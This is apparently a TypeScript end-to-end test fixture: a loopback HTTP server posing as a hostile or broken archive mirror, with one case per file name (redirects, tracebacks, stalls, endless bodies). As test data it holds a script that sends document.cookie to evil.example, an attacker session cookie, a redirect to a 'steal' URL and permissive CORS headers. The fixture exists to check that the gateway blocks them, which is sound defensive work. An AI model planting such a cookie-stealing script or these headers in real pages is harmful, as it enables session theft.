// An old mirror for pull-through tests (test/e2e/archive-pull-through.test.ts): a node:http server
// on loopback answering what a hostile or broken mirror may (cookies, CORS, HTML, redirects,
// tracebacks, trickles, endless bodies), each case under its own file name.
import { randomBytes } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';

export const LEGACY = Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(5000)]);
export const ETAG = '"legacy-1"';
export const LAST_MODIFIED = 'Tue, 02 Jan 2024 03:04:05 GMT';
/** What the upstream sends with every answer and no answer of Depot's origin may carry. */
export const HOSTILE = {
  'set-cookie': 'depot_session=attacker; Path=/',
  'access-control-allow-origin': 'https://evil.example',
  'access-control-allow-credentials': 'true',
  'content-type': 'text/html',
  'content-disposition': 'inline',
  'cache-control': 'no-store',
  'strict-transport-security': 'max-age=0',
  refresh: '0; url=http://evil.example/',
  link: '<http://evil.example/x.js>; rel=preload',
  'x-upstream': 'leaked',
};
/** A 500's body, with a secret the client must never see. */
export const TRACEBACK = 'Traceback (most recent call last):\n  File "mirror.py", line 3\nDB_PASSWORD=hunter2\n';

export interface OldMirror {
  /** Its URL, `http://127.0.0.1:<port>/base/` (ARCHIVE_UPSTREAM_URL). */
  url: string;
  /** The requests it received, in order. */
  saw: { url: string; headers: http.IncomingHttpHeaders }[];
  close(): void;
}

/**
 * Starts the mirror: `/base/mods/up/up-<case>.zip` answers as each case is named (`1.0` is a
 * well-behaved archive with ranges and 304s, but every answer carries HOSTILE); anything else 404.
 * `timeoutMs` and `maxBytes` are the gateway's limits, which the slow and large cases exceed.
 */
export async function startOldMirror({
  timeoutMs,
  maxBytes,
}: {
  timeoutMs: number;
  maxBytes: number;
}): Promise<OldMirror> {
  const saw: OldMirror['saw'] = [];
  /** The old mirror: `/base/mods/up/up-<case>.zip` answers as each case is named. */
  function mirror(req: http.IncomingMessage, res: http.ServerResponse): void {
    saw.push({ url: req.url ?? '', headers: req.headers });
    const name = /^\/base\/mods\/up\/up-(.+)\.zip$/.exec(req.url ?? '')?.[1];
    const content = { etag: ETAG, 'last-modified': LAST_MODIFIED, 'accept-ranges': 'bytes' };
    switch (name) {
      case '1.0': {
        if (req.headers['if-none-match'] === ETAG) return void res.writeHead(304, { ...HOSTILE, ...content }).end();
        const range = /^bytes=(\d+)-(\d+)$/.exec(req.headers.range ?? '');
        if (!range)
          return void res.writeHead(200, { ...HOSTILE, ...content, 'content-length': LEGACY.length }).end(LEGACY);
        const [first, last] = [Number(range[1]), Number(range[2])];
        if (first >= LEGACY.length)
          return void res
            .writeHead(416, { ...HOSTILE, 'content-range': `bytes */${LEGACY.length}` })
            .end('<h1>416</h1>');
        const part = LEGACY.subarray(first, last + 1);
        const contentRange = `bytes ${first}-${first + part.length - 1}/${LEGACY.length}`;
        const partHeaders = { 'content-range': contentRange, 'content-length': part.length };
        return void res.writeHead(206, { ...HOSTILE, ...content, ...partHeaders }).end(part);
      }
      case 'html':
        return void res.writeHead(200, HOSTILE).end('<script>fetch("//evil.example/"+document.cookie)</script>');
      case 'redirect':
        return void res.writeHead(302, { ...HOSTILE, location: 'http://evil.example/steal' }).end('Found');
      case 'forbidden':
        return void res.writeHead(403, HOSTILE).end('<h1>Forbidden</h1>');
      case 'error':
        return void res.writeHead(500, { ...HOSTILE, 'content-type': 'text/plain' }).end(TRACEBACK);
      case 'unavailable':
        return void res.writeHead(503, { ...HOSTILE, 'retry-after': '3600' }).end('down');
      case 'gzip':
        return void res.writeHead(200, { ...HOSTILE, 'content-encoding': 'gzip' }).end(LEGACY);
      case 'reset':
        return void req.socket.destroy();
      case 'gone':
        return void res.writeHead(410, HOSTILE).end('<h1>Gone</h1>');
      case 'late':
        return void setTimeout(() => res.writeHead(200, content).end(LEGACY), timeoutMs + 1500).unref();
      case 'stall':
        // The headers, then nothing: never a byte of the body.
        return void res.writeHead(200, { ...content, 'content-length': 100 }).flushHeaders();
      case 'trickle': {
        // One byte every 100 ms: never idle for long, 10 s in all.
        res.writeHead(200, { ...content, 'content-length': 100 });
        const timer = setInterval(() => (res.writableEnded ? clearInterval(timer) : res.write('x')), 100);
        res.on('close', () => clearInterval(timer));
        return;
      }
      case 'declared-large':
        res.writeHead(200, { ...content, 'content-length': maxBytes + 1 });
        return void res.write(LEGACY);
      case 'endless': {
        // Chunked, 64 KiB at a time, three times the limit unless the reader goes first.
        res.writeHead(200, content);
        let sent = 0;
        const more = () => {
          while (sent < 3 * maxBytes && !res.destroyed) {
            sent += 65536;
            if (!res.write(randomBytes(65536))) return void res.once('drain', more);
          }
          res.end();
        };
        return more();
      }
      default:
        return void res.writeHead(404, HOSTILE).end('<h1>Not Found</h1>');
    }
  }
  const server = http.createServer(mirror);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/base/`,
    saw,
    close() {
      server.closeAllConnections();
      server.close();
    },
  };
}
